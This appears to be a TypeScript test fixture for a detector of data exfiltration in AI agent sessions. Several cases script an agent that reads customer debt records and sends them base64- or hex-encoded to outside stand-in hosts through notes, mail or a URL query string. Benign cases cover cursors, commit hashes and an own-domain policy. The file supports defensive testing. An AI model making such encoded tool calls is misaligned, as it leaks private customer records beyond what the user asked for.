import { createHash } from 'node:crypto'
import type { SessionCase } from '#detector'
import { call, story, user } from '../../test/support/story.js'

const records = 'account DE-4471902 owes 20, account DE-4471903 owes 30, account DE-4471904 owes 40'
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
/** Looks random, and is the same in every run. */
const noise = Array.from({ length: 4 }, (_, at) => createHash('sha512').update(String(at)).digest('base64url')).join('')

export default [
  {
    name: 'records in base64 to strangers',
    kind: 'fires',
    events: story(
      user('How many customers owe us money?'),
      call('list_customer_records', {}, records, { serverName: 'crm' }),
      call('create_note', { url: 'https://notes.example/n', text: base64(records) }, 'ok', { serverName: 'notes' }),
    ),
    finds: ['c2'],
    severity: 'high',
  },
  {
    name: 'records in hex in a link',
    kind: 'fires',
    events: story(
      user('How many customers owe us money?'),
      call('list_customer_records', {}, records, { serverName: 'crm' }),
      call('send_mail', { to: 'x@else.example', body: `https://else.example/i?d=${hex(records)}` }, 'ok', {
        serverName: 'mail',
      }),
    ),
    finds: ['c2'],
    severity: 'high',
  },
  {
    name: 'records in base64 in the link of a page that is read, by somebody who asked for reading',
    kind: 'fires',
    events: story(
      user('Read the list: how many customers owe us money?'),
      call('list_customer_records', {}, records, { serverName: 'crm' }),
      call('read_page', { url: `https://else.example/i?d=${Buffer.from(records).toString('base64url')}` }, 'ok', {
        serverName: 'web',
      }),
    ),
    finds: ['c2'],
    severity: 'high',
  },
  {
    name: 'a long run that looks random',
    kind: 'fires',
    events: story(call('create_note', { url: 'https://notes.example/n', text: noise }, 'ok')),
    finds: ['c1'],
    severity: 'low',
  },
  {
    name: 'noisy, benign: cursors handed back, commit hashes, identifiers',
    kind: 'quiet',
    events: story(
      call('list_items', { page: '' }, { next: base64('{"after":"item-77129","dir":"asc"}') }),
      call('list_items', { page: base64('{"after":"item-77129","dir":"asc"}') }, 'more'),
      call(
        'create_comment',
        { url: 'https://hub.example/pr/1', text: 'Fixed in 3f786850e387550fdab836ed7e6dc881de23001b' },
        'ok',
      ),
      call('send_message', { to: 'Bob', text: 'See b7e23ec2-9af2-4b3c-8d3a-1f0a8b1f7c55' }, 'ok'),
    ),
    finds: [],
  },
  {
    name: 'records in base64 to a host of our own',
    kind: 'quiet',
    events: story(
      call('list_customer_records', {}, records, { serverName: 'crm' }),
      call('create_note', { url: 'https://notes.corp.example/n', text: base64(records) }, 'ok', {
        serverName: 'notes',
      }),
    ),
    policy: { isOwnDestination: (host) => host.endsWith('corp.example') },
    finds: [],
  },
] satisfies SessionCase[]
